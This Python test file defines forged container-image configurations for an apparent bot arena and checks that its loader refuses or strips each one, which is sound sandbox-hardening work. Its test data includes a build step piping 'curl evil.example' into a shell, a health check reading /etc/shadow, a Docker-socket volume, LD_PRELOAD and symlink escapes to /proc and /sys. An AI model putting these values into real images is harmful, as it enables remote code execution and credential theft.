"""Attacks in an image's configuration."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from arena.images.image import BotImage
from tests.images.archives import Draft, docker_29, write
from tests.images.hostile.attack import Attack, in_config, layered, oci_archive
from tests.images.tars import folder, symlink, tar

_KEPT = {"Entrypoint", "Cmd", "Env", "WorkingDir"}


def _only_four_fields(image: BotImage, _layers: Path) -> None:
    config = json.loads(image.config())
    assert set(config) == {"architecture", "config", "created", "history", "os", "rootfs"}
    assert set(config["config"]) == _KEPT


def _no_variables_of_ours(image: BotImage, _layers: Path) -> None:
    assert image.command.env == ("PATH=/bin",)


def _bytes(name: str, change: Callable[[bytes], bytes], refused: str) -> Attack:
    """Return an attack in the bytes of the configuration."""

    class Forged(Draft):
        def config_bytes(self) -> bytes:
            return change(super().config_bytes())

    return Attack(name=name, build=oci_archive(Forged()), control=oci_archive(Draft()), refused=refused)


def _dropped(name: str, **config: Any) -> Attack:  # noqa: ANN401 - JSON
    return in_config(name, harmless=_only_four_fields, **config)


def _variables(count: int) -> dict[str, Any]:
    return {"Env": [f"V{number}=x" for number in range(count)]}


CONFIGS = (
    _dropped("root as the user", User="0:0"),
    in_config(
        "volumes over the system",
        Volumes={"/etc": {}, "/var/run/docker.sock": {}},
        refused="VOLUME, but bots can write only to /tmp",
    ),
    in_config("volumes that are a list", Volumes=["/data"], refused="Expected `object | null`, got `array`"),
    _dropped(
        "a health check that runs", Healthcheck={"Test": ["CMD-SHELL", "cat /etc/shadow"], "Interval": 1}
    ),
    _dropped("the arena's own labels", Labels={"kaiten.match": "1", "kaiten.install": "forged"}),
    _dropped("steps for those who build on it", OnBuild=["RUN curl evil.example | sh"]),
    _dropped(
        "a stop signal that is ignored by default",
        StopSignal="SIGWINCH",
        ExposedPorts={"22/tcp": {}},
        Shell=["/bin/evil"],
    ),
    in_config(
        "the arena's own variables",
        Env=["ARENA_REFEREE=unix:/tmp/mine", "HOME=/root", "PATH=/bin"],
        harmless=_no_variables_of_ours,
    ),
    in_config(
        "an entry point that is a string", Entrypoint="sh -c x", refused="Expected `array | null`, got `str`"
    ),
    in_config("an entry point that is a number", Entrypoint=7, refused="Expected `array | null`, got `int`"),
    in_config("an entry point in an entry point", Entrypoint=[["sh"]], refused="Expected `str`, got `array`"),
    in_config(
        "variables that are an object", Env={"A": "b"}, refused="Expected `array | null`, got `object`"
    ),
    in_config(
        "nothing to start", Entrypoint=None, refused="has no start command: give its Dockerfile an ENTRYPOINT"
    ),
    in_config("a first word that is empty", Entrypoint=[""], refused="has no start command"),
    in_config("a NUL in a word", Entrypoint=["sh", "-c\0x"], refused="NUL"),
    in_config("half a character", Cmd=["\ud800"], refused="not Unicode|unexpected content"),
    Attack(
        name="a million variables",
        build=lambda path: write(path, docker_29(Draft(config=_variables(1_000_000)))),
        control=oci_archive(Draft()),
        refused="limit 1048576",
    ),
    in_config("a thousand variables", **_variables(1_000), refused="1000 variables"),
    in_config("a variable of a megabyte", Env=["A=" + "x" * 900_000], refused="limit 32768"),
    in_config("a variable without a name", Env=["=x"], refused="an invalid name"),
    in_config("a variable without a value", Env=["LD_PRELOAD"], refused="has no value"),
    in_config("a process's working directory", WorkingDir="/proc/self/fd/8", refused="is a system folder"),
    in_config("a device's working directory", WorkingDir="//dev/./shm/", refused="is a system folder"),
    in_config(
        "a working directory with a detour",
        WorkingDir="/bot/../proc/self",
        refused="must be an absolute path",
    ),
    in_config("a relative working directory", WorkingDir="proc/self", refused="must be an absolute path"),
    in_config("a file as the working directory", WorkingDir="/bot/bot.py", refused="not a folder"),
    in_config("a working directory with a long name", WorkingDir="/" + "a" * 256, refused="too long"),
    in_config("a working directory with a long path", WorkingDir="/" + "a/" * 2_000, refused="too long"),
    in_config(
        "a working directory beside the socket",
        WorkingDir="/run/arena/x",
        refused="into /run/arena, .* mounts",
    ),
    in_config(
        "a working directory beside the init",
        WorkingDir="/run/arena-init/x",
        refused="into /run/arena-init, .* mounts",
    ),
    in_config(
        "a working directory below the accounts",
        WorkingDir="/etc/group/x",
        refused="not a folder|a system file",
    ),
    in_config(
        "a working directory that is never seen",
        WorkingDir="/tmp/x",  # noqa: S108 - in the image
        refused="into /tmp, .* the arena's mounts",
    ),
    Attack(
        name="a working directory hidden behind a link",
        build=oci_archive(
            Draft(layers=layered(tar(symlink(b"w", b"/tmp/x"))).layers, config={"WorkingDir": "/w"})
        ),
        control=oci_archive(Draft(config={"WorkingDir": "/tmp"})),  # noqa: S108 - in the image
        refused="leads into /tmp, which is reserved for the arena's mounts",
    ),
    Attack(
        name="a working directory that is a link",
        build=oci_archive(
            Draft(layers=layered(tar(symlink(b"w", b"/proc/self/fd/8"))).layers, config={"WorkingDir": "/w"})
        ),
        control=oci_archive(Draft(layers=layered(tar(folder(b"w"))).layers, config={"WorkingDir": "/w"})),
        refused="leads to '/proc'",
    ),
    Attack(
        name="a working directory through a chain of links",
        build=oci_archive(
            Draft(
                layers=layered(tar(symlink(b"a", b"bot/b"), symlink(b"bot/b", b"../../../sys"))).layers,
                config={"WorkingDir": "/a/kernel"},
            )
        ),
        control=oci_archive(
            Draft(
                layers=layered(tar(symlink(b"a", b"bot/b"), symlink(b"bot/b", b"../../../usr"))).layers,
                config={"WorkingDir": "/a/kernel"},
            )
        ),
        refused="leads to '/sys'",
    ),
    Attack(
        name="a working directory that goes in circles",
        build=oci_archive(
            Draft(
                layers=layered(tar(symlink(b"a", b"b"), symlink(b"b", b"a"))).layers,
                config={"WorkingDir": "/a"},
            )
        ),
        control=oci_archive(Draft(layers=layered(tar(symlink(b"a", b"b"), symlink(b"b", b"c"))).layers)),
        refused="more than 40 links",
    ),
    _bytes(
        "a configuration that is no UTF-8",
        lambda text: text.replace(b"/bot", b"/\xff\xfe"),
        "unexpected content",
    ),
    _bytes("a configuration of brackets", lambda _: b"[" * 500_000, "nested too deeply|unexpected content"),
    _bytes(
        "a configuration that is a list", lambda text: b"[" + text + b"]", "Expected `object`, got `array`"
    ),
    _bytes("a configuration of 50 MB", lambda text: text + b" " * 50_000_000, "limit 1048576"),
    _bytes(
        "a platform that is a number",
        lambda text: text.replace(b'"linux"', b"7"),
        "Expected `str`, got `int`",
    ),
)
